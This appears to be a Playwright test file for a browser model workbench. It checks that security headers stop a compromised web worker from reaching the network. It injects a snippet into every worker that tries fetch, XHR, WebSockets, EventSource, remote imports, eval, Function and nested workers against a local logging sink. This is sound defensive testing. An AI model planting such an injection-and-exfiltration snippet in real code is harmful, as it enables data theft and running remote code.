// Every worker of the page tries every way to the outside, as a compromised module would, on a host that sends our headers and on one that
// sends none. A socket that logs every connection says what came through; the browser's own reports are not asked.
import { readFileSync, readdirSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { createServer as createHttpServer } from 'node:http'
import { type AddressInfo, type Server, createServer } from 'node:net'
import { extname, join } from 'node:path'
import type { Page } from 'playwright/test'
import { zipFiles } from '../src/storage/zip'
import { root } from '../src/cli/node/cache.mjs'
import { drop, expect, fill, test } from './studio'

const dist = join(root, 'dist')
const types: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' }
const policyHeaders = [
  'content-security-policy',
  'connection-allowlist',
  'cross-origin-opener-policy',
  'cross-origin-embedder-policy',
  'cross-origin-resource-policy',
]

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return (server.address() as AddressInfo).port
}

/** Logs the path of every connection and answers it, so that nothing fails for another reason. */
function loggingSink() {
  const reached = new Set<string>()
  const server = createServer((socket) => {
    socket.on('error', () => socket.destroy())
    socket.once('data', (bytes) => {
      reached.add(bytes.toString('latin1').split(' ')[1])
      socket.end(
        'HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nAccess-Control-Allow-Origin: *\r\nCross-Origin-Resource-Policy: cross-origin\r\nConnection: close\r\n\r\n',
      )
    })
  })
  return { server, reached }
}

/** Added to the module of every worker. Says on a channel when it has tried everything, and what text it could run as code. */
function attack(port: number): string {
  return `;{
    const out = '127.0.0.1:${port}/' + self.name + '/'
    const ended = (target, names) => new Promise((done) => names.forEach((name) => target.addEventListener(name, done)))
    const ran = []
    const ways = {
      fetch: () => fetch('http://' + out + 'fetch'),
      xhr: () => { const x = new XMLHttpRequest(); x.open('GET', 'http://' + out + 'xhr'); x.send(); return ended(x, ['loadend']) },
      socket: () => ended(new WebSocket('ws://' + out + 'socket'), ['open', 'error', 'close']),
      events: () => { const e = new EventSource('http://' + out + 'events'); return ended(e, ['open', 'error']).finally(() => e.close()) },
      import: () => import('http://' + out + 'import'),
      importScripts: () => importScripts('http://' + out + 'importScripts'),
      eval: () => { const f = (0, eval)('(url) => fetch(url)'); ran.push('eval'); return f('http://' + out + 'eval') },
      Function: () => { const f = new Function('url', 'return fetch(url)'); ran.push('Function'); return f('http://' + out + 'Function') },
      worker: () => { new Worker('data:text/javascript,fetch("http://' + out + 'worker")'); ran.push('worker') },
    }
    const tries = Object.values(ways).map(async (way) => { try { await way() } catch {} })
    Promise.all(tries).then(() => new BroadcastChannel('ways-out').postMessage({ name: self.name, ran }))
  }`
}

/** A static host for dist under `base`, whose workers are compromised. Under `bare/` nothing has a policy. */
function host(headers: Record<string, string>, sinkPort: number, base: string): Server {
  return createHttpServer((request, response) => {
    const asked = new URL(request.url ?? '/', 'http://localhost').pathname
    const path = asked.startsWith(base) ? `/${asked.slice(base.length)}` : '/outside'
    const bare = path.startsWith('/bare/')
    if (path === '/bare/') return void response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>bare</title>')
    if (!bare) for (const [name, value] of Object.entries(headers)) response.setHeader(name, value)
    try {
      const file = path === '/' ? '/index.html' : path.replace(/^\/bare/, '')
      const bytes = readFileSync(join(dist, file))
      response.setHeader('Content-Type', types[extname(file)] ?? 'application/octet-stream')
      response.end(/\.worker-[^/]*\.js$/.test(file) ? Buffer.concat([bytes, Buffer.from(attack(sinkPort))]) : bytes)
    } catch {
      response.writeHead(404).end()
    }
  })
}

/** Every page collects what the workers say on the channel; the result is a function that asks the page for it. */
async function listen(page: Page): Promise<() => Promise<Record<string, string[]>>> {
  await page.addInitScript(() => {
    const said: Record<string, string[]> = {}
    Object.assign(window, { said })
    new BroadcastChannel('ways-out').addEventListener('message', ({ data }) => (said[data.name] = data.ran))
  })
  return () => page.evaluate((): Record<string, string[]> => Reflect.get(window, 'said'))
}

/** Opens a model with a chat template, rows with turns and a zip, asks it, and opens the workbench, so that every worker of ours starts. */
async function startAllWorkers(page: Page, folder: string): Promise<void> {
  const demo = join(root, 'public', 'demo')
  const config = JSON.parse(readFileSync(join(demo, 'tokenizer_config.json'), 'utf8'))
  const template = '{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}'
  await mkdir(folder, { recursive: true })
  const row = {
    messages: [
      { role: 'user', content: 'Hello' },
      { role: 'assistant', content: 'Hi' },
    ],
  }
  await writeFile(join(folder, 'tokenizer_config.json'), JSON.stringify({ ...config, chat_template: template }))
  for (const name of ['rows.jsonl', 'valid.jsonl']) await writeFile(join(folder, name), JSON.stringify(row))
  await writeFile(join(folder, 'a.zip'), zipFiles('a', [{ path: 'readme.txt', bytes: new TextEncoder().encode('no model') }]))
  const model = ['config.json', 'model.safetensors', 'tokenizer.json'].map((name) => join(demo, name))
  await drop(page, [...model, join(folder, 'tokenizer_config.json')])
  await expect(page.getByTestId('model-summary')).toContainText(/llama/i, { timeout: 60_000 })
  await drop(page, [join(folder, 'rows.jsonl'), join(folder, 'valid.jsonl')])
  await expect(page.getByTestId('data-summary')).toContainText(/\d/, { timeout: 60_000 })
  await drop(page, [join(folder, 'a.zip')])
  await page.locator('a[href="#answers"]').click()
  await fill(page, { maxTokens: 1 })
  await page.getByTestId('answers-start').click()
  await expect(page.getByTestId('answer-row')).toHaveCount(1, { timeout: 60_000 })
  await page.locator('a[href="#data"]').click()
  await page.getByTestId('bench-sample').click()
  await expect(page.getByTestId('bench-totals')).toBeVisible({ timeout: 60_000 })
  await page.locator('a[href="#setup"]').first().click()
  const seeing = ['config.json', 'model.safetensors', 'preprocessor_config.json'].map((name) => join(demo, 'pictures', name))
  await drop(page, seeing)
  await expect(page.getByTestId('model-summary')).toContainText('×', { timeout: 60_000 })
  await expect(page.getByTestId('model-summary')).not.toContainText(/llama/i, { timeout: 60_000 })
  await drop(page, [join(demo, 'pictures', 'drawings.zip')])
  await page.getByRole('link', { name: 'Look at the pictures' }).click()
  await expect(page.getByTestId('class-card').first()).toBeVisible({ timeout: 60_000 })
}

/** The names of our workers, from their files: `engine.worker-1a2b.js` is `engine`. */
const workers = (): string[] =>
  readdirSync(join(dist, 'assets'))
    .flatMap((file) => /^(.+)\.worker-[^/]*\.js$/.exec(file)?.[1] ?? [])
    .toSorted()

for (const [kind, base] of [
  ['the headers of npm start', '/'],
  ['no headers, under a path', '/some/path/'],
])
  test(`nothing leaves any worker on a host that sends ${kind}`, async ({ page, request }) => {
    const sent = (await request.get('./')).headers()
    const headers = kind.startsWith('no headers') ? {} : Object.fromEntries(policyHeaders.map((name) => [name, sent[name]]))
    const { server: sink, reached } = loggingSink()
    const server = host(headers, await listening(sink), base)
    const address = `http://127.0.0.1:${await listening(server)}${base}`
    const folder = test.info().outputDir
    try {
      // What a worker without a policy reaches: the sink sees it, and every way is really tried.
      const said = await listen(page)
      await page.goto(`${address}bare/`)
      const [engine] = readdirSync(join(dist, 'assets')).filter((file) => file.startsWith('engine.worker-'))
      await page.evaluate((url) => void new Worker(url, { type: 'module', name: 'bare' }), `${address}bare/assets/${engine}`)
      await expect.poll(said).toEqual({ bare: ['eval', 'Function', 'worker'] })
      const open = ['Function', 'eval', 'events', 'fetch', 'import', 'socket', 'worker', 'xhr'].map((way) => `/bare/${way}`)
      await expect.poll(() => [...reached].toSorted()).toEqual(open)
      reached.clear()

      await page.goto(address)
      await startAllWorkers(page, folder)
      await expect.poll(async () => Object.keys(await said()).toSorted()).toEqual(workers())
      expect(Object.values(await said()).flat()).toEqual([])
      expect([...reached]).toEqual([])
    } finally {
      server.close()
      sink.close()
    }
  })
